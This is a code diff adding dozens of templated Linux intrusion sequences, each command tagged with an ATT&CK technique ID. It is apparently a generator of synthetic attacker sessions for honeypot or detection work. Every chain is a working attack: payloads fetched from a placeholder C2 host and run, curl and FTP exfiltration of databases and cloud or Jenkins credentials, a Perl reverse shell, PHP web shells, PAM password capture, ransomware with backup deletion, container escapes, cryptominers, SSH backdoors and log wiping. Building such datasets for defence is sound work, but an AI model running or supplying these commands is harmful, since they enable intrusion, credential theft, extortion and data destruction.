@@ -803,4 +803,416 @@ T1491.002 :: echo "<h1>hacked by {r}</h1>" > index.html
 ("imp-fork-dos", "human", """
 T1499 :: :(){ :|:& };:
 """),
+# --- 11. Full kill chains, hands-on-keyboard (recon → staging → execution → persistence → privesc → creds → collection → exfil → clean-up)
+("chain-miner-operator", "human", """
+T1033 :: id
+T1082 :: uname -a
+T1082 :: cat /proc/cpuinfo | grep name | wc -l
+T1082 :: nproc
+T1057 :: ps aux | grep -v grep | grep -iE 'xmr|miner|kdev' | wc -l
+T1105 :: cd {dir}
+?0.3 T1105 :: wget http://{c2}/{bin}
+T1105 :: curl -fsSL http://{c2}/{bin} -o {bin}
+T1105 :: ls -la {bin}
+T1496.001,T1496.001 :: chmod +x {bin}; nohup ./{bin} -o {pool}:{poolport} -u {wallet} -p {host} --cpu-max-threads-hint=75 >/dev/null 2>&1 &
+T1053.003,T1053.003,T1053.003 :: (crontab -l 2>/dev/null; echo "@reboot {dir}/{bin} -o {pool}:{poolport} -u {wallet}") | crontab -
+T1098.004 :: echo "{key}" >> ~/.ssh/authorized_keys
+T1057 :: top -b -n 1 | head -n 15
+T1070.003 :: history -c
+"""),
+("chain-webapp-rce-to-exfil", "human", """
+T1033 :: id
+T1083 :: pwd
+T1083 :: ls -la
+T1552.001 :: cat ../config/database.yml
+T1082 :: uname -a
+T1016 :: ip a
+T1105 :: cd /tmp
+T1105 :: wget http://{c2}/{bin}
+T1059.004,T1059.004 :: chmod +x {bin}; ./{bin} {c2} {port} &
+T1548.001 :: find / -perm -u=s -type f 2>/dev/null
+T1068 :: ./{bin} --exploit pkexec
+T1033 :: id
+T1003.008 :: cat /etc/shadow
+T1005 :: mysqldump -u {dbuser} -p'{pw}' {db} > /tmp/.{r}.sql
+T1560.001 :: tar czf /tmp/.{r}.tgz /tmp/.{r}.sql
+T1041 :: curl -F "f=@/tmp/.{r}.tgz" http://{c2}:{port}/u
+T1070.004 :: rm -f /tmp/.{r}.sql /tmp/.{r}.tgz {bin}
+"""),
+("chain-ssh-brute-foothold", "human", """
+T1033 :: w
+T1082 :: uname -a; cat /etc/*release
+T1082 :: cat /proc/cpuinfo | grep "model name" | head -n 1
+T1082 :: free -h
+T1049 :: netstat -tnp | grep ESTAB
+T1098,T1098 :: echo "root:{pw2}" | chpasswd
+T1098.004,T1098.004 :: mkdir -p /root/.ssh && echo "{key}" > /root/.ssh/authorized_keys
+T1105,T1105,T1105 :: cd {dir}; wget -q http://{c2}/{script}; sh {script}
+T1070.004 :: rm -f {script}
+T1685.006 :: echo > /var/log/auth.log
+T1070.003 :: history -c
+"""),
+("chain-apt-style-quiet", "human", """
+T1690 :: unset HISTFILE HISTSAVE
+T1033 :: id; w
+T1082 :: hostnamectl
+T1016 :: ip -br a
+T1049 :: ss -antp
+T1518.001 :: ps -eo comm | grep -iE 'falcon|wazuh|auditd|osquery'
+T1087.001 :: getent passwd | awk -F: '$3 >= 1000 {print $1}'
+T1552.004 :: ls -la /home/*/.ssh/
+T1564.001 :: mkdir -p /usr/share/{hid}
+T1105 :: curl -so /usr/share/{hid}/«udevd|dbus-launch|rpcbind» https://{dom}/u/{r}
+T1036.005 :: chmod 755 /usr/share/{hid}/«udevd|dbus-launch|rpcbind»
+T1543.002 :: systemctl enable --now «udev-sync|dbus-helper|rpc-sync».service
+T1070.006 :: touch -r /usr/bin/ssh /usr/share/{hid}
+T1018 :: cat /etc/hosts
+T1021.004 :: ssh -o StrictHostKeyChecking=no {lan} 'uname -a'
+"""),
+("chain-cloud-key-thief", "human", """
+T1033 :: whoami
+T1082 :: cat /etc/os-release
+T1552.005 :: curl -s http://169.254.169.254/latest/meta-data/iam/info
+T1552.005 :: curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)
+T1552.001 :: cat ~/.aws/credentials ~/.aws/config
+T1552.001 :: env | grep AWS
+T1580 :: aws sts get-caller-identity
+T1580 :: aws ec2 describe-instances --query "Reservations[].Instances[].PrivateIpAddress"
+T1619 :: aws s3 ls
+T1530 :: aws s3 sync s3://{project}-backups /tmp/.s3 --quiet
+T1560.001 :: tar czf /tmp/.s3.tgz /tmp/.s3
+T1567.002 :: curl -T /tmp/.s3.tgz https://share.{dom}/{r}
+T1070.004 :: rm -rf /tmp/.s3 /tmp/.s3.tgz
+"""),
+("chain-k8s-pod-escape", "human", """
+T1033 :: id
+T1497.001 :: cat /proc/1/cgroup
+T1613 :: env | grep KUBERNETES
+T1552.007 :: cat /var/run/secrets/kubernetes.io/serviceaccount/token
+T1105 :: curl -sLO http://{c2}/kubectl
+T1613 :: chmod +x kubectl; ./kubectl auth can-i --list
+T1613 :: ./kubectl get pods -A
+T1610 :: ./kubectl run {r} --image=alpine --overrides='{"spec":{"hostPID":true,"containers":[{"name":"x","image":"alpine","command":["nsenter","-t","1","-m","-u","-i","-n","sh"],"stdin":true,"tty":true,"securityContext":{"privileged":true}}]}}' -it
+T1611 :: nsenter -t 1 -m -u -i -n sh
+T1033 :: id
+T1552.001 :: cat /etc/kubernetes/admin.conf
+"""),
+("chain-ransom-linux-server", "human", """
+T1033 :: id
+T1082 :: uname -a
+T1083 :: df -h
+T1083 :: ls -la /srv /var/www /home
+T1057 :: ps aux | grep -E 'mysql|postgres|mongo'
+T1489 :: systemctl stop mysql
+T1489 :: systemctl stop {svc}
+T1490 :: rm -rf /var/backups/* /backup/*
+T1105 :: cd /tmp; wget http://{c2}/{bin}
+T1486,T1486 :: chmod +x {bin}; ./{bin} --path /srv --path /var/www --path /home --ext locked
+T1491.001 :: echo "Your data is encrypted. Write to {r}@{dom}" > /root/README_LOCKED.txt
+T1070.004 :: rm -f {bin}
+T1070.003 :: history -c
+"""),
+("chain-iot-camera-bot", "bot", """
+T1059.004 :: sh
+T1082 :: cat /proc/cpuinfo
+T1082 :: cat /proc/version
+T1083 :: ls /mnt /tmp /var
+T1105 :: cd /tmp || cd /var
+T1105 :: /bin/busybox wget http://{c2}/{arch} -O /tmp/.{r} || /bin/busybox tftp -g -r {arch} -l /tmp/.{r} {c2}
+T1059.004,T1059.004 :: chmod 777 /tmp/.{r}; /tmp/.{r} cam.{arch}
+T1489 :: kill -9 $(pidof telnetd)
+T1070.004 :: rm -rf /tmp/.{r}
+"""),
+("chain-insider-data-grab", "human", """
+T1033 :: whoami
+T1083 :: ls -la /srv/shares/
+T1083 :: find /srv/shares/{project} -name "*.xlsx" -newer /etc/hostname
+T1074.001 :: mkdir ~/.tmp{r}
+T1119 :: cp -r /srv/shares/{project}/contracts ~/.tmp{r}/
+T1560.001 :: zip -r -P {pw} ~/{doc}.zip ~/.tmp{r}
+T1567.002 :: curl -T ~/{doc}.zip https://upload.{dom}/{doc}.zip
+T1070.004 :: rm -rf ~/.tmp{r} ~/{doc}.zip
+T1070.003 :: history -c
+"""),
+("chain-jenkins-compromise", "human", """
+T1033 :: id
+T1083 :: ls /var/lib/jenkins
+T1552.001 :: cat /var/lib/jenkins/credentials.xml
+T1552.001 :: cat /var/lib/jenkins/secrets/master.key
+T1552.001 :: ls /var/lib/jenkins/secrets/
+T1560.001 :: tar czf /tmp/.j.tgz /var/lib/jenkins/credentials.xml /var/lib/jenkins/secrets
+T1041 :: curl -s -F "f=@/tmp/.j.tgz" http://{c2}:{port}/j
+T1098.004 :: echo "{key}" >> /var/lib/jenkins/.ssh/authorized_keys
+T1070.004 :: rm -f /tmp/.j.tgz
+"""),
+("chain-redis-unauth-root", "human", """
+T1046 :: redis-cli -h {lan} ping
+T1082 :: redis-cli -h {lan} info
+T1098.004 :: (echo -e "\\n\\n"; cat ~/.ssh/id_rsa.pub; echo -e "\\n\\n") > /tmp/k.txt
+T1098.004,T1098.004 :: cat /tmp/k.txt | redis-cli -h {lan} -x set k
+T1098.004 :: redis-cli -h {lan} config set dir /root/.ssh
+T1098.004 :: redis-cli -h {lan} config set dbfilename authorized_keys
+T1098.004 :: redis-cli -h {lan} save
+T1021.004 :: ssh root@{lan} id
+"""),
+("chain-tomcat-manager-deploy", "human", """
+T1190 :: curl -s -u tomcat:tomcat http://{lan}:8080/manager/text/list
+T1505.003 :: msfvenom -p java/jsp_shell_reverse_tcp LHOST={c2} LPORT={port} -f war -o {r}.war
+T1505.003 :: curl -s -u tomcat:tomcat -T {r}.war "http://{lan}:8080/manager/text/deploy?path=/{r}"
+T1059 :: curl -s http://{lan}:8080/{r}/
+T1033 :: id
+T1082 :: uname -a
+"""),
+("chain-log4shell-callback", "human", """
+T1190 :: curl -s -H 'X-Api-Version: ${jndi:ldap://{c2}:1389/a}' http://{lan}:8080/
+T1033 :: id
+T1082 :: uname -a
+T1105 :: wget -q http://{c2}/{bin} -O /tmp/{bin}
+T1059.004,T1059.004 :: chmod +x /tmp/{bin}; /tmp/{bin} &
+T1053.003,T1053.003,T1053.003 :: (crontab -l; echo "*/5 * * * * /tmp/{bin}") | crontab -
+"""),
+("chain-confluence-ognl-miner", "bot", """
+T1033 :: whoami
+T1082 :: uname -m
+T1489 :: pkill -9 -f «kdevtmpfsi|kinsing|xmrig»
+T1685 :: ufw disable
+T1686 :: iptables -F
+T1105,T1059.004 :: curl -fsSL http://{c2}/{script} | bash
+T1496.001 :: {dir}/.{r}/{bin} -o {pool}:{poolport} -u {wallet} -B
+"""),
+("chain-pam-harvest-exfil", "human", """
+T1033 :: id
+T1082 :: cat /etc/os-release
+T1556.003 :: cp /etc/pam.d/common-auth /var/tmp/.ca
+T1556.003 :: echo "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/.l" >> /etc/pam.d/common-auth
+T1556.003 :: echo -e '#!/bin/sh\\necho "$PAM_USER:$(cat -)" >> /var/tmp/.pl' > /usr/local/bin/.l
+T1556.003 :: chmod +x /usr/local/bin/.l
+T1070.006 :: touch -r /etc/pam.d/common-password /etc/pam.d/common-auth
+T1056 :: cat /var/tmp/.pl
+T1041 :: curl -s --data-binary @/var/tmp/.pl http://{c2}/p
+"""),
+("chain-sudo-token-reuse", "human", """
+T1033 :: id
+T1548.003 :: sudo -n true
+T1057 :: ps -ef | grep sudo
+T1548.003 :: ls -la /var/run/sudo/ts/
+T1548.003 :: sudo -i
+T1033 :: id
+T1136.001 :: useradd -M -s /bin/bash -G sudo {newuser}
+T1098,T1098 :: echo "{newuser}:{pw}" | chpasswd
+"""),
+("chain-ssh-worm-step", "human", """
+T1033 :: id
+T1552.004 :: ls ~/.ssh/
+T1018 :: cat ~/.ssh/known_hosts | cut -d' ' -f1 | sort -u
+T1018 :: grep -E "^ssh " ~/.bash_history | sort -u
+T1105 :: curl -s http://{c2}/{bin} -o /tmp/{bin}
+T1570 :: scp -o StrictHostKeyChecking=no /tmp/{bin} {lan}:/tmp/
+T1021.004 :: ssh -o StrictHostKeyChecking=no {lan} "chmod +x /tmp/{bin}; nohup /tmp/{bin} &"
+T1021.004 :: ssh -o StrictHostKeyChecking=no {lan2} "hostname"
+T1070.004 :: rm -f /tmp/{bin}
+"""),
+("chain-backup-server-pillage", "human", """
+T1033 :: id
+T1083 :: ls -lah /backup
+T1083 :: du -sh /backup/*
+T1005 :: tar tzf /backup/{db}-latest.tar.gz | head
+T1074.001 :: cp /backup/{db}-latest.tar.gz /dev/shm/.{r}
+T1030 :: split -b 50M /dev/shm/.{r} /dev/shm/.{r}.
+T1048.003 :: for p in /dev/shm/.{r}.*; do curl -s -T $p ftp://{c2}/in/ --user x:{pw}; done
+T1490 :: rm -rf /backup/*
+T1070.004 :: rm -f /dev/shm/.{r}*
+"""),
+("chain-postgres-copy-program", "human", """
+T1190 :: psql -h {lan} -U postgres -c "select version();"
+T1059.004 :: psql -h {lan} -U postgres -c "CREATE TABLE cmd_out(t text); COPY cmd_out FROM PROGRAM 'id';"
+T1059.004 :: psql -h {lan} -U postgres -c "SELECT * FROM cmd_out;"
+T1105 :: psql -h {lan} -U postgres -c "COPY cmd_out FROM PROGRAM 'curl -s http://{c2}/{script} | sh';"
+T1070 :: psql -h {lan} -U postgres -c "DROP TABLE cmd_out;"
+"""),
+("chain-wordpress-takeover", "human", """
+T1083 :: ls {web}
+T1552.001 :: grep -E "DB_(USER|PASSWORD|NAME)" {web}/wp-config.php
+T1005 :: mysql -u {dbuser} -p'{pw}' {db} -e "select ID,user_login,user_email from wp_users;"
+T1098 :: mysql -u {dbuser} -p'{pw}' {db} -e "update wp_users set user_pass=MD5('{pw2}') where ID=1;"
+T1505.003 :: echo '<?php @eval($_POST["p"]); ?>' > {web}/wp-includes/«class-wp-cache|wp-tmp|load-styles»x.php
+T1070.006 :: touch -r {web}/wp-includes/version.php {web}/wp-includes/*x.php
+T1491.002 :: mysql -u {dbuser} -p'{pw}' {db} -e "update wp_options set option_value='http://{dom}' where option_name='siteurl';"
+"""),
+("chain-cpanel-mailer", "human", """
+T1033 :: id
+T1083 :: ls ~/public_html
+T1105 :: cd ~/public_html/wp-content/uploads
+T1105 :: wget -q http://{c2}/mailer.txt -O m.php
+T1114.001 :: ls ~/mail/
+T1005 :: cat ~/public_html/contacts.csv | wc -l
+T1071.003 :: curl -s "http://127.0.0.1/wp-content/uploads/m.php?send=1"
+T1070.004 :: rm -f m.php
+"""),
+("chain-gpu-farm-miner", "human", """
+T1082 :: nvidia-smi
+T1082 :: lspci | grep -i nvidia
+T1105 :: cd /opt && mkdir .n && cd .n
+T1105 :: wget -q http://{c2}/lolminer.tgz
+T1140 :: tar xzf lolminer.tgz
+T1496.001 :: nohup ./lolMiner --algo ETCHASH --pool {pool}:{poolport} --user {wallet}.{host} >/dev/null 2>&1 &
+T1543.002 :: printf "[Service]\\nExecStart=/opt/.n/lolMiner --algo ETCHASH --pool {pool}:{poolport} --user {wallet}\\n[Install]\\nWantedBy=multi-user.target\\n" > /etc/systemd/system/nv-telemetry.service
+T1543.002 :: systemctl enable nv-telemetry
+T1685 :: systemctl stop nvidia-dcgm
+"""),
+("chain-proxyjacking", "human", """
+T1082 :: uname -a
+T1016 :: curl -s ifconfig.example
+T1105 :: docker pull «proxyagent/peer|bandwidth/node»:latest
+T1496.002 :: docker run -d --restart always --name {r} «proxyagent/peer|bandwidth/node»:latest --email {r}@{dom} --password {pw}
+T1613 :: docker ps
+T1070.003 :: history -c
+"""),
+("chain-rootkit-install", "human", """
+T1082 :: uname -r
+T1105 :: cd /tmp && wget -q http://{c2}/{r}.tgz
+T1140 :: tar xzf {r}.tgz && cd {r}
+T1014 :: make
+T1014 :: insmod {r}.ko
+T1014 :: kill -63 0
+T1014 :: lsmod | grep {r}
+T1070.004 :: cd / && rm -rf /tmp/{r} /tmp/{r}.tgz
+"""),
+("chain-mysql-udf-privesc", "human", """
+T1005 :: mysql -u root -p'{pw}' -e "select @@plugin_dir;"
+T1068 :: mysql -u root -p'{pw}' -e "select load_file('/tmp/raptor_udf2.so') into dumpfile '/usr/lib/mysql/plugin/raptor_udf2.so';"
+T1068 :: mysql -u root -p'{pw}' -e "create function do_system returns integer soname 'raptor_udf2.so';"
+T1068 :: mysql -u root -p'{pw}' -e "select do_system('cp /bin/bash /tmp/rb; chmod +s /tmp/rb');"
+T1548.001 :: /tmp/rb -p
+T1033 :: id
+"""),
+("chain-exfil-over-icmp-dns", "human", """
+T1083 :: find / -name "*.sql" -size +1M 2>/dev/null
+T1560.001 :: tar czf /tmp/.z.tgz /var/lib/{db}
+T1132.001 :: xxd -p /tmp/.z.tgz > /tmp/.z.hex
+T1048.003 :: for l in $(cat /tmp/.z.hex); do ping -c 1 -p $l {c2}; done
+T1070.004 :: rm -f /tmp/.z.*
+"""),
+("chain-operator-typo-heavy", "human", """
+T1033 :: whoam
+T1033 :: whoami
+T1082 :: unmae -a
+T1082 :: uname -a
+T1105 :: cd /tmp
+T1105 :: wegt http://{c2}/{bin}
+T1105 :: wget http://{c2}/{bin}
+T1105 :: ls
+T1059.004 :: chmod +x {bin}
+T1059.004 :: ./{bin}
+T1059.004 :: ./{bin} &
+T1057 :: ps aux | grep {bin}
+"""),
+("chain-persistence-belt-and-braces", "human", """
+T1033 :: id
+T1105 :: cd {dir} && curl -s -O http://{c2}/{bin} && chmod +x {bin}
+T1053.003,T1053.003,T1053.003 :: (crontab -l 2>/dev/null; echo "*/15 * * * * {dir}/{bin}") | crontab -
+T1037.004 :: echo "{dir}/{bin} &" >> /etc/rc.local
+T1546.004 :: echo "{dir}/{bin} >/dev/null 2>&1 &" >> /etc/profile
+T1098.004 :: echo "{key}" >> /root/.ssh/authorized_keys
+T1222.002 :: chattr +i {dir}/{bin} /root/.ssh/authorized_keys
+T1070.003 :: history -c
+"""),
+("chain-docker-socket-host-takeover", "human", """
+T1033 :: id
+T1613 :: ls -la /var/run/docker.sock
+T1613 :: curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json
+T1611 :: docker -H unix:///var/run/docker.sock run -it --privileged --pid=host -v /:/host alpine chroot /host bash
+T1033 :: id
+T1098.004 :: echo "{key}" >> /host/root/.ssh/authorized_keys
+T1003.008 :: cat /etc/shadow
+"""),
+("chain-phpmyadmin-to-shell", "human", """
+T1190 :: curl -s http://{lan}/phpmyadmin/ | grep -i version
+T1505.003 :: mysql -h {lan} -u root -p'{pw}' -e "SELECT '<?php system(\\$_GET[c]); ?>' INTO OUTFILE '{web}/s.php';"
+T1059.004 :: curl -s "http://{lan}/s.php?c=id"
+T1059.004 :: curl -s "http://{lan}/s.php?c=uname%20-a"
+T1105 :: curl -s "http://{lan}/s.php?c=wget%20http://{c2}/{bin}%20-O%20/tmp/{bin}"
+"""),
+("chain-git-secrets-hunt", "human", """
+T1083 :: find / -name ".git" -type d -not -path "*/node_modules/*" 2>/dev/null
+T1552.001 :: cd /srv/{project} && git log -p | grep -iE "password|secret|api_key" | head -n 30
+T1552.001 :: cat /srv/{project}/.env.production
+T1552.001 :: grep -r "BEGIN RSA PRIVATE KEY" /srv 2>/dev/null
+T1560.001 :: tar czf /tmp/.g.tgz /srv/{project}/.env* /srv/{project}/config
+T1041 :: curl -s -F "f=@/tmp/.g.tgz" http://{c2}:{port}/g
+"""),
+("chain-hidden-user-cron-cleanup", "human", """
+T1087.001 :: cut -d: -f1 /etc/passwd
+T1136.001 :: useradd -r -s /bin/bash -d /var/lib/.{newuser} -m {newuser}
+T1098,T1098 :: echo '{newuser}:{pw}' | chpasswd
+T1098 :: echo '{newuser} ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/«90-cloud|README2|99-sys»
+T1053.003 :: echo "0 * * * * root /var/lib/.{newuser}/.u" > /etc/cron.d/sysstat2
+T1685.006 :: sed -i '/{newuser}/d' /var/log/auth.log
+T1070.003,T1070.003 :: history -c; rm ~/.bash_history
+"""),
+("chain-dropper-retry-loop", "bot", """
+T1082 :: uname -a
+T1105 :: cd /tmp || cd /var/tmp || cd /dev/shm
+T1105 :: wget http://{c2}/{bin}.{arch}
+T1105 :: curl -O http://{c2}/{bin}.{arch}
+T1105 :: wget http://{c2b}/{bin}.{arch}
+T1059.004,T1059.004 :: chmod +x {bin}.{arch}; ./{bin}.{arch}
+T1070.004 :: rm -f {bin}.{arch}
+"""),
+("chain-root-ssh-config-backdoor", "human", """
+T1082 :: cat /etc/ssh/sshd_config | grep -v "#" | grep .
+T1098 :: sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
+T1098 :: sed -i 's/^#\\?PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config
+T1098 :: echo "Port {port}" >> /etc/ssh/sshd_config
+T1098 :: systemctl restart sshd
+T1686 :: iptables -I INPUT -p tcp --dport {port} -j ACCEPT
+"""),
+("chain-sniff-and-spread", "human", """
+T1016 :: ip a
+T1040 :: timeout 120 tcpdump -i any -A port 21 or port 110 or port 143 2>/dev/null | grep -iE "user|pass" > /tmp/.c
+T1040 :: cat /tmp/.c
+T1021.004 :: sshpass -p '{pw}' ssh -o StrictHostKeyChecking=no {user}@{lan} id
+T1570 :: sshpass -p '{pw}' scp {dir}/{bin} {user}@{lan}:/tmp/
+"""),
+("chain-suid-vim-backdoor", "human", """
+T1548.001 :: find / -perm -4000 2>/dev/null | grep -vE "snap|proc"
+T1548.001 :: /usr/bin/vim.basic -c ':py3 import os; os.execl("/bin/sh", "sh", "-pc", "reset; exec sh -p")'
+T1033 :: id
+T1548.001 :: cp /bin/bash /var/tmp/.bash; chmod 4755 /var/tmp/.bash
+T1564.001 :: ls -la /var/tmp/.bash
+"""),
+("chain-web-defacer", "human", """
+T1033 :: id
+T1083 :: ls -la {web}
+T1491.002 :: cp {web}/index.html /tmp/.idx
+T1491.002 :: wget -q http://{c2}/index.html -O {web}/index.html
+T1491.002 :: curl -s http://localhost/ | head
+T1070.003 :: history -c
+"""),
+("chain-dos-bot-joiner", "bot", """
+T1082 :: uname -a
+T1105 :: cd /tmp; curl -sO http://{c2}/{bin}
+T1059.004,T1059.004 :: chmod +x {bin}; ./{bin} -s {c2}:{port}
+T1498 :: ./{bin} --flood udp {c2b} 443 120
+"""),
+("chain-cred-reuse-mysql-pivot", "human", """
+T1552.003 :: grep -i "mysql -u" ~/.bash_history
+T1552.001 :: cat /etc/mysql/debian.cnf
+T1005 :: mysql --defaults-file=/etc/mysql/debian.cnf -e "select user,host,authentication_string from mysql.user;"
+T1021.004 :: sshpass -p '{pw}' ssh {dbuser}@{lan} 'hostname'
+T1005 :: mysql -h {lan} -u {dbuser} -p'{pw}' -e "show databases;"
+"""),
+("chain-pastebin-stager", "human", """
+T1102 :: curl -s https://paste.{dom}/raw/{r} -o /tmp/.p
+T1140 :: base64 -d /tmp/.p > /tmp/.p.sh
+T1059.004 :: bash /tmp/.p.sh
+T1070.004 :: rm -f /tmp/.p /tmp/.p.sh
+"""),
+("chain-perl-shell-and-cleanup", "human", """
+T1059 :: perl -e 'use Socket;$i="{c2}";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
+T1033 :: id
+T1082 :: uname -a
+T1685.006 :: find /var/log -type f -exec sh -c '> {}' \\;
+T1070.003 :: history -c
+"""),
 ]
